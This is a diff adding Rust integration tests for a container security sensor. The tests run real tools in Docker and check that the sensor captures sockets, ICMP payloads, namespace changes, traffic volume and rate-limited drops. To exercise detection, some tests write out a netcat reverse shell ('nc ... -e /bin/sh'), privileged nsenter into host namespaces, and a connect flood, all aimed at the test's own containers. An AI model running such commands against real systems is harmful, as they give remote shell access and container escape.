@@ -1,0 +1,347 @@
+//! Kernel capture of sockets, stdio redirection, namespaces, traffic volume and ICMP, each
+//! driven by real tools in real containers. Traffic goes only to the test's own containers and to
+//! the docker bridge gateway.
+
+use std::{process::Command, thread, time::Duration};
+
+use sensor_tests::{
+    Containers, Sensor, bridge_gateway, container_ip, docker, docker_run_rm, ev, image,
+};
+use serde_json::Value;
+
+fn kind_in<'a>(e: &'a Value, kind: &str, cid: &str) -> Option<&'a Value> {
+    (ev::kind(e) == kind && ev::container_id(e) == cid).then(|| &e[kind])
+}
+
+fn sock_op<'a>(e: &'a Value, op: &str, cid: &str) -> Option<&'a Value> {
+    kind_in(e, "socket", cid).filter(|s| s["op"] == op)
+}
+
+#[test]
+fn nc_listen_accept_and_connect_between_two_containers() {
+    let sensor = Sensor::start("nc_pair");
+    let listener = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "sh",
+        "-c",
+        "nc -l -p 8080 > /dev/null",
+    ]);
+    let _cleanup = Containers(vec![listener.clone()]);
+    let lip = container_ip(&listener);
+    sensor.expect("listen", |e| {
+        sock_op(e, "listen", &listener).is_some_and(|s| s["local"]["port"] == 8080)
+    });
+    let client = docker_run_rm(&[&image(), "sh", "-c", &format!("echo hello | nc {lip} 8080")]);
+
+    let connect = sensor.expect("connect from the client", |e| {
+        sock_op(e, "connect", &client).is_some()
+    });
+    let c = &connect["socket"];
+    assert_eq!(
+        (ev::addr(&c["remote"]), &c["remote"]["port"]),
+        (lip.as_str(), &Value::from(8080)),
+        "{c}"
+    );
+    assert!(c["error"].is_null() || c["error"] == "EINPROGRESS", "{c}");
+    let client_ip = ev::addr(&c["local"]).to_string();
+    assert!(
+        c["local"]["port"].as_u64().unwrap() > 0,
+        "the kernel picked a local port: {c}"
+    );
+
+    let accept = sensor.expect("accept in the listener", |e| {
+        sock_op(e, "accept", &listener).is_some()
+    });
+    let a = &accept["socket"];
+    assert_eq!(
+        ev::addr(&a["remote"]),
+        client_ip,
+        "accept sees the client: {a}"
+    );
+    assert_eq!(a["remote"]["port"], c["local"]["port"]);
+    assert_eq!(a["local"]["port"], 8080);
+    assert!(a["result"].as_str().unwrap().parse::<i64>().unwrap() >= 0);
+    assert_eq!(accept["process"]["comm"], "nc");
+    assert_eq!(connect["process"]["comm"], "nc");
+    // TCP state changes are attributed to the socket's container too.
+    sensor.expect("ESTABLISHED on the client", |e| {
+        kind_in(e, "tcp_state", &client).is_some_and(|t| t["new_state"] == "ESTABLISHED")
+    });
+}
+
+#[test]
+fn ping_size_and_crafted_payloads_are_measured_per_container() {
+    let sensor = Sensor::start_with("ping", &["--flow-interval", "1"]);
+    let gw = bridge_gateway();
+    let plain = docker_run_rm(&[&image(), "ping", "-c", "5", "-s", "600", &gw]);
+    let crafted = docker_run_rm(&[&image(), "ping", "-c", "3", "-p", "41", &gw]);
+    let requests = |cid: &str| {
+        let cid = cid.to_string();
+        move |evs: &[Value]| -> Vec<Value> {
+            evs.iter()
+                .filter_map(|e| kind_in(e, "icmp", &cid))
+                .filter(|i| i["direction"] == "egress" && i["type_name"] == "echo_request")
+                .cloned()
+                .collect()
+        }
+    };
+    let total = |v: &[Value]| v.iter().map(|i| ev::u64_of(&i["count"])).sum::<u64>();
+    let (plain_req, crafted_req) = (requests(&plain), requests(&crafted));
+    assert!(
+        sensor.wait_until(Duration::from_secs(20), |evs| total(&plain_req(evs)) >= 5
+            && total(&crafted_req(evs)) >= 3),
+        "ICMP records incomplete: {:?}",
+        plain_req(&sensor.events())
+    );
+    let evs = sensor.events();
+    let plain_req = plain_req(&evs);
+    assert_eq!(total(&plain_req), 5, "five echo requests: {plain_req:?}");
+    for i in &plain_req {
+        assert_eq!(ev::addr(&i["peer"]), gw);
+        assert_eq!(i["last_payload_size"], 600, "{i}");
+        assert_eq!(
+            ev::u64_of(&i["size_buckets"][4]),
+            ev::u64_of(&i["count"]),
+            "513..1024 bucket: {i}"
+        );
+    }
+    let crafted_req = crafted_req(&evs);
+    assert_eq!(total(&crafted_req), 3);
+    let pattern = |v: &[Value]| v[0]["payload_pattern"].as_str().unwrap().to_string();
+    assert!(
+        crafted_req[0]["last_sample_hex"]
+            .as_str()
+            .unwrap()
+            .contains("4141414141414141"),
+        "{}",
+        crafted_req[0]
+    );
+    assert!(
+        pattern(&crafted_req).ends_with("-41"),
+        "{}",
+        pattern(&crafted_req)
+    );
+    assert_ne!(
+        pattern(&plain_req),
+        pattern(&crafted_req),
+        "the crafted payload is distinguishable"
+    );
+    // Replies are counted for the pinging container as well.
+    assert!(
+        evs.iter()
+            .filter_map(|e| kind_in(e, "icmp", &plain))
+            .any(|i| i["type_name"] == "echo_reply")
+    );
+}
+
+#[test]
+fn a_netcat_reverse_shell_shows_dup2_and_socket_stdio() {
+    let sensor = Sensor::start("reverse_shell");
+    // The test's own listener, in a container: it sends one command and keeps the line open.
+    let listener = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "sh",
+        "-c",
+        "(echo 'id'; sleep 3) | nc -l -p 9001",
+    ]);
+    let _cleanup = Containers(vec![listener.clone()]);
+    let lip = container_ip(&listener);
+    sensor.expect("listener up", |e| sock_op(e, "listen", &listener).is_some());
+    let shell = docker_run_rm(&[&image(), "nc", &lip, "9001", "-e", "/bin/sh"]);
+
+    // busybox nc -e moves the socket onto fd 0 and dups it onto 1; unlike nc 1.10 it leaves
+    // stderr alone (see its source), so the shell's stdin and stdout are the socket.
+    let mut fds: Vec<i64> = Vec::new();
+    for fd in 0..2 {
+        let dup = sensor.expect(&format!("dup onto fd {fd}"), |e| {
+            kind_in(e, "stdio_redirect", &shell)
+                .is_some_and(|d| d["newfd"].as_i64().unwrap_or(0) == fd)
+        });
+        let d = &dup["stdio_redirect"];
+        assert_eq!(
+            (ev::addr(&d["remote"]), &d["remote"]["port"]),
+            (lip.as_str(), &Value::from(9001)),
+            "{d}"
+        );
+        assert_eq!(d["type"], "stream");
+        fds.push(fd);
+    }
+    assert_eq!(fds, [0, 1]);
+    let sh = sensor.expect("the shell's exec", |e| {
+        ev::container_id(e) == shell && ev::kind(e) == "exec" && e["process"]["exe"] == "/bin/sh"
+    });
+    assert_eq!(
+        sh["exec"]["stdio_socket_fds"],
+        serde_json::json!([0, 1]),
+        "{sh}"
+    );
+    assert_eq!(ev::addr(&sh["exec"]["stdio_peer"]), lip);
+    // The listener's `id` ran in the shell, with the socket as its stdio too.
+    let id = sensor.expect("id run by the shell", |e| {
+        ev::container_id(e) == shell && ev::is_exec_of(e, "id")
+    });
+    assert_eq!(id["exec"]["stdio_socket_fds"], serde_json::json!([0, 1]));
+}
+
+#[test]
+fn nsenter_into_the_host_and_unshare_are_flagged() {
+    let sensor = Sensor::start("namespaces");
+    // A host process of the test's own, to enter the namespaces of.
+    let mut host = Command::new("sleep").arg("30").spawn().unwrap();
+    let pid = host.id().to_string();
+    let privileged = [
+        "--pid",
+        "host",
+        "--cap-add",
+        "ALL",
+        "--cap-drop",
+        "SYS_RESOURCE",
+        "--security-opt",
+        "seccomp=unconfined",
+        "--security-opt",
+        "apparmor=unconfined",
+    ];
+    let script = format!("nsenter -t {pid} -n -u /bin/true && unshare -n -u /bin/true");
+    let image = image();
+    let mut args: Vec<&str> = privileged.to_vec();
+    args.extend([image.as_str(), "sh", "-c", script.as_str()]);
+    let cid = docker_run_rm(&args);
+    let _ = host.kill();
+    let _ = host.wait();
+
+    for ty in ["net", "uts"] {
+        let setns = sensor.expect(&format!("setns into the host's {ty}"), |e| {
+            kind_in(e, "namespace_change", &cid)
+                .is_some_and(|n| n["op"] == "setns" && n["target_type"] == ty)
+        });
+        let n = &setns["namespace_change"];
+        assert_eq!(n["target_is_host"], true, "{n}");
+        assert!(n["error"].is_null(), "{n}");
+        assert!(
+            n["after_host_types"]
+                .as_array()
+                .unwrap()
+                .contains(&Value::from(ty)),
+            "{n}"
+        );
+    }
+    // runc's own unshare also runs in the container's cgroup; ours is the unshare tool's.
+    let unshare = sensor.expect("unshare", |e| {
+        kind_in(e, "namespace_change", &cid).is_some_and(|n| n["op"] == "unshare")
+            && e["process"]["comm"] == "unshare"
+    });
+    let n = &unshare["namespace_change"];
+    assert_eq!(n["types"], serde_json::json!(["uts", "net"]), "{n}");
+    assert!(n["error"].is_null(), "{n}");
+    assert!(
+        !n["after_host_types"]
+            .as_array()
+            .unwrap()
+            .contains(&Value::from("net")),
+        "a new net namespace: {n}"
+    );
+}
+
+#[test]
+fn ten_megabytes_between_containers_are_measured_within_5_percent() {
+    const SENT: u64 = 10 * 1024 * 1024;
+    let sensor = Sensor::start_with("volume", &["--flow-interval", "1"]);
+    // busybox httpd serves a 10 MiB file; busybox wget in another container fetches it. (busybox
+    // nc stops reading a piped stdin after ~64 KiB, so it cannot carry the transfer.)
+    let server = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "sh",
+        "-c",
+        "mkdir /www && head -c 10485760 /dev/zero > /www/blob && httpd -f -p 8000 -h /www",
+    ]);
+    let _cleanup = Containers(vec![server.clone()]);
+    let sip = container_ip(&server);
+    sensor.expect("server listening", |e| {
+        sock_op(e, "listen", &server).is_some()
+    });
+    let client = docker_run_rm(&[
+        &image(),
+        "sh",
+        "-c",
+        &format!("wget -q -O - http://{sip}:8000/blob | wc -c"),
+    ]);
+    let client_ip = {
+        let connect = sensor.expect("client connect", |e| {
+            sock_op(e, "connect", &client).is_some()
+        });
+        ev::addr(&connect["socket"]["local"]).to_string()
+    };
+    let bytes = |evs: &[Value], cid: &str, direction: &str, peer: &str| -> u64 {
+        evs.iter()
+            .filter_map(|e| kind_in(e, "traffic", cid))
+            .filter(|t| {
+                t["direction"] == direction
+                    && t["protocol_name"] == "tcp"
+                    && ev::addr(&t["peer"]) == peer
+            })
+            .map(|t| ev::u64_of(&t["bytes"]))
+            .sum()
+    };
+    let within = |b: u64| (b as f64 - SENT as f64).abs() / (SENT as f64) <= 0.05;
+    let ok = sensor.wait_until(Duration::from_secs(20), |evs| {
+        within(bytes(evs, &server, "egress", &client_ip))
+            && within(bytes(evs, &client, "ingress", &sip))
+    });
+    let evs = sensor.events();
+    assert!(
+        ok,
+        "sent {SENT}; measured server egress {} and client ingress {}",
+        bytes(&evs, &server, "egress", &client_ip),
+        bytes(&evs, &client, "ingress", &sip)
+    );
+}
+
+#[test]
+fn a_flooding_container_does_not_cost_another_its_events() {
+    // A low limit so a shell loop can exceed it within a bounded time.
+    let sensor = Sensor::start_with("flood", &["--net-rate", "20", "--net-burst", "20"]);
+    let flood = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "sh",
+        "-c",
+        "end=$(( $(date +%s) + 4 )); while [ $(date +%s) -lt $end ]; do nc 127.0.0.1 1 </dev/null 2>/dev/null; done",
+    ]);
+    let _cleanup = Containers(vec![flood.clone()]);
+    thread::sleep(Duration::from_millis(500));
+    // Five connects (refused: nothing listens on its own port 1) while the flood runs.
+    let quiet = docker_run_rm(&[
+        &image(),
+        "sh",
+        "-c",
+        "for i in 1 2 3 4 5; do nc 127.0.0.1 1 </dev/null; sleep 0.2; done",
+    ]);
+    docker(&["wait", &flood]);
+    let evs = sensor.events();
+    let connects = |cid: &str| {
+        evs.iter()
+            .filter(|e| sock_op(e, "connect", cid).is_some())
+            .count()
+    };
+    assert_eq!(
+        connects(&quiet),
+        5,
+        "every connect of the quiet container is reported"
+    );
+    assert!(connects(&flood) > 0, "the flooding container is still seen");
+    let dropped = sensor
+        .wait_for(Duration::from_secs(5), |e| {
+            ev::kind(e) == "health"
+                && ev::u64_of(&e["health"]["rings"][1]["dropped_rate_limited"]) > 0
+        })
+        .expect("rate-limited drops are counted and reported in health");
+    assert_eq!(dropped["health"]["rings"][1]["ring"], "network");
+    assert!(ev::u64_of(&dropped["health"]["dropped_total"]) > 0);
+}
